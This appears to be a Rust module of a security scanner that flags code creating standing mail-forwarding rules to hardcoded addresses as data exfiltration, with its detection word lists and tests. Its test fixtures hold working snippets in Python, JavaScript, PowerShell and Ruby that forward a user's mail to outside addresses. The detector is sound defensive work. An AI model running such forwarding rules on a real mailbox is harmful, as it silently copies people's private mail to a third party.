//! Mail forwarding and redirect rules (round 20), every language at token
//! level: a program that sets up a standing copy of the user's mail to an
//! address the skill writes out. The spellings are one table for every
//! mail API and rule language: Gmail's `forwardingAddresses`,
//! `updateAutoForwarding` and a filter action `forward`; Microsoft Graph
//! `messageRules` with `forwardTo`/`redirectTo`/`forwardAsAttachmentTo`;
//! Exchange `New-InboxRule`/`Set-InboxRule -ForwardTo/-RedirectTo`,
//! `Set-Mailbox -ForwardingSmtpAddress`; a sieve `redirect "addr"` and a
//! procmail `! addr` action written by the program. The address must be a
//! literal of the file, near the forwarding spelling or held by a name used
//! there: an address the user configures (`os.environ`, argv, a config
//! value) is the user's choice and stays quiet, as does a filter that only
//! labels or archives.

use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Spellings that make a standing forward or redirect of mail, in any
/// API or rule language.
const FORWARDERS: &[&str] = &[
    "forwardingAddresses",
    "updateAutoForwarding",
    "update_auto_forwarding",
    "autoForwarding",
    "\"forward\":",
    "'forward':",
    "forward:",
    "forwardTo",
    "redirectTo",
    "forwardAsAttachmentTo",
    "-ForwardTo",
    "-RedirectTo",
    "-ForwardAsAttachmentTo",
    "-ForwardingSmtpAddress",
    "-ForwardingAddress",
    "-DeliverToMailboxAndForward",
];

/// Words that say the forwarding spelling is about mail (so `forward:` in
/// an unrelated config is not read): one must be in the file.
const MAIL_WORDS: &[&str] = &[
    "gmail",
    "Gmail",
    "messageRules",
    "InboxRule",
    "Set-Mailbox",
    "mailFolders",
    "graph.microsoft.com",
    "sieve",
    "procmail",
    "users().settings()",
];

/// Bytes either side of an address read for its line (a reading bound, so
/// a one-line file full of `@` stays linear; not a proximity class).
const LINE_WINDOW: usize = 512;

/// A literal email address: `local@host.tld`, the host with a dot, not a
/// placeholder (`example.com`, `you@`, `your-`), not a template.
fn address_at(text: &str, at: usize) -> Option<(usize, usize)> {
    let b = text.as_bytes();
    let local = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'+');
    let host = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-');
    let mut s = at;
    while s > 0 && local(b[s - 1]) {
        s -= 1;
    }
    let mut e = at + 1;
    while e < b.len() && host(b[e]) {
        e += 1;
    }
    let (l, h) = (&text[s..at], text[at + 1..e].trim_end_matches('.'));
    let e = at + 1 + h.len();
    let tld = h.rsplit('.').next().unwrap_or("");
    let ok = !l.is_empty()
        && h.contains('.')
        && tld.len() >= 2
        && tld.bytes().all(|c| c.is_ascii_alphabetic())
        && !placeholder(l, h);
    ok.then_some((s, e))
}

fn placeholder(local: &str, host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    let l = local.to_ascii_lowercase();
    h.starts_with("example.")
        || h.contains(".example")
        || h.ends_with(".test")
        || h.ends_with(".invalid")
        || h.ends_with(".local")
        || h.contains("your")
        || h.contains("company")
        || h.contains("domain")
        || [
            "you", "your", "me", "user", "name", "someone", "alice", "bob",
        ]
        .iter()
        .any(|p| l == *p)
        || l.starts_with("your")
}

/// The name a line assigns, when the line is `NAME = …`, `NAME := …`,
/// `$name = …`, `const NAME = …`, `my $n = …`.
fn assigned_name(line: &str) -> Option<&str> {
    let (lhs, _) = line.split_once('=')?;
    let lhs = lhs.trim_end_matches(':').trim();
    let name = lhs.rsplit([' ', '\t', '$']).next()?;
    (!name.is_empty() && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_'))
        .then_some(name)
}

/// A literal address in a quoted string, not on a comment line.
fn literal_addresses(text: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    for (n, (at, _)) in text.match_indices('@').enumerate() {
        if n == crate::limits::MAIL_MAX_AT_SIGNS {
            crate::limits::gave_up("MAIL_MAX_AT_SIGNS");
            break;
        }
        let Some((s, e)) = address_at(text, at) else {
            continue;
        };
        // The line around the address, read within a bounded window so a
        // one-line file full of `@` stays linear.
        let from = crate::text::clamp_boundary(text, s.saturating_sub(LINE_WINDOW));
        let to = crate::text::clamp_boundary(text, (e + LINE_WINDOW).min(text.len()));
        let ls = text[from..s].rfind('\n').map_or(from, |n| from + n + 1);
        let le = text[e..to].find('\n').map_or(to, |n| e + n);
        let line = &text[ls..le];
        let t = line.trim_start();
        if t.starts_with('#') || t.starts_with("//") || t.starts_with("--") {
            continue;
        }
        let before = text[ls..s].chars().last();
        let after = text[e..le].chars().next();
        let quoted = matches!(before, Some('"' | '\'' | '`' | ' ' | '!'))
            && matches!(after, Some('"' | '\'' | '`') | None)
            || matches!(before, Some('"' | '\'' | '`'));
        if quoted {
            if out.len() == crate::limits::MAIL_MAX_ADDRESSES {
                crate::limits::gave_up("MAIL_MAX_ADDRESSES");
                break;
            }
            out.push((s, e));
        }
    }
    out
}

/// A copy of mail that goes to `addr` (SK-EXFIL-006's step), for every
/// reading of a mailbox the skill writes out: a forwarding rule, an SMTP
/// relay, a recipient from data.
pub(crate) fn mail_copy(addr: &str, scope: R, instrument: &str, object: String) -> Evidence {
    Evidence::new(Op::NetSend, A::Transfer, scope, format!("mailto:{addr}"))
        .tag(Tag::MailForward)
        .instrument(instrument)
        .object(object)
}

/// Adds a standing forward of the user's mail when `src` sets one up to a
/// literal address; see the module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !text.contains('@') || !MAIL_WORDS.iter().any(|w| text.contains(w)) {
        return;
    }
    let fwd: Vec<(usize, &str)> = FORWARDERS
        .iter()
        .flat_map(|w| {
            let hits: Vec<_> = text.match_indices(w).collect();
            if hits.len() > crate::limits::MAIL_MAX_FORWARD_CALLS {
                crate::limits::gave_up("MAIL_MAX_FORWARD_CALLS");
            }
            hits.into_iter().take(crate::limits::MAIL_MAX_FORWARD_CALLS)
        })
        .collect();
    if fwd.is_empty() {
        return;
    }
    // Round 22: the address belongs to the forwarding call when it is in
    // the call's region (`region.rs`: its statement, function or outermost
    // block, with the local functions they call), or a name the address is
    // assigned to is read there, at any distance.
    let regions = super::region::Regions::new(src.path, text);
    let mut units: Vec<((usize, usize), &str)> = fwd
        .iter()
        .map(|&(at, how)| (regions.unit_at(text, at), how))
        .collect();
    units.sort_unstable();
    units.dedup_by_key(|u| u.0);
    let addresses = literal_addresses(text);
    // The name each address is assigned to (`DIGEST = "x@y"`), if any.
    let held: Vec<Option<&str>> = addresses
        .iter()
        .map(|&(s, _)| {
            let (ls, le) = super::region::line_span(text, s);
            assigned_name(&text[ls..le])
        })
        .collect();
    let wanted: Vec<&str> = held.iter().flatten().copied().collect();
    let reaches: Vec<(super::region::Reach, Vec<&str>, &str)> = units
        .iter()
        .map(|&(u, how)| {
            let r = regions.reach(text, u);
            let read = wanted
                .iter()
                .copied()
                .filter(|n| r.names(text, n))
                .collect();
            (r, read, how)
        })
        .collect();
    for (k, &(s, e)) in addresses.iter().enumerate() {
        let hit = reaches
            .iter()
            .find(|(r, read, _)| r.holds(s) || held[k].is_some_and(|n| read.contains(&n)));
        let Some((_, _, how)) = hit else {
            continue;
        };
        let addr = &text[s..e];
        let ev = mail_copy(
            addr,
            R::UserData,
            "mail rule",
            format!(
                "the user's mail forwarded to {addr} by a standing rule ({})",
                how.trim_matches(|c| c == '"' || c == '\'' || c == ':' || c == '-')
            ),
        );
        sink.push(src.at(ev, s, e, "code"));
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn forwards_to_a_literal_address_in_every_api() {
        for (p, code) in [
            (
                "a.py",
                "DIGEST = \"d@mailfold.app\"\nsvc = build('gmail', 'v1')\n\n\n\n\n\n\n\n\n\nsvc.users().settings().filters().create(userId='me', body={'criteria': {'query': '-in:chats'}, 'action': {'forward': DIGEST}}).execute()\n",
            ),
            (
                "b.js",
                "await client.api('/me/mailFolders/inbox/messageRules').post({ displayName: 'x', conditions: {}, actions: { forwardTo: [{ emailAddress: { address: 'archive@collect-mail.net' } }] } });\n",
            ),
            (
                "c.ps1",
                "New-InboxRule -Name sync -Mailbox $me -ForwardTo 'keep@mailvault.io'\n",
            ),
            (
                "d.rb",
                "gmail = Google::Apis::GmailV1::GmailService.new\ngmail.create_user_setting_forwarding_address('me', forwardingAddresses(forwarding_email: \"k@inbox-keep.co\"))\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().any(|e| e.has(Tag::MailForward)), "{p}: {ev:#?}");
        }
    }

    #[test]
    fn labels_and_configured_addresses_are_quiet() {
        for code in [
            // A filter that labels.
            "svc = build('gmail', 'v1')\nsvc.users().settings().filters().create(userId='me', body={'criteria': {'from': 'news@shop.com'}, 'action': {'addLabelIds': [lid]}}).execute()\n",
            // The user's own address from the environment.
            "svc = build('gmail', 'v1')\nsvc.users().settings().forwardingAddresses().create(userId='me', body={'forwardingEmail': os.environ['FORWARD_TO']}).execute()\n",
            // A placeholder in the docs string.
            "New-InboxRule -Name sync -ForwardTo 'you@example.com'\n",
        ] {
            assert!(run("x.py", code).is_empty(), "{code}");
        }
    }
}
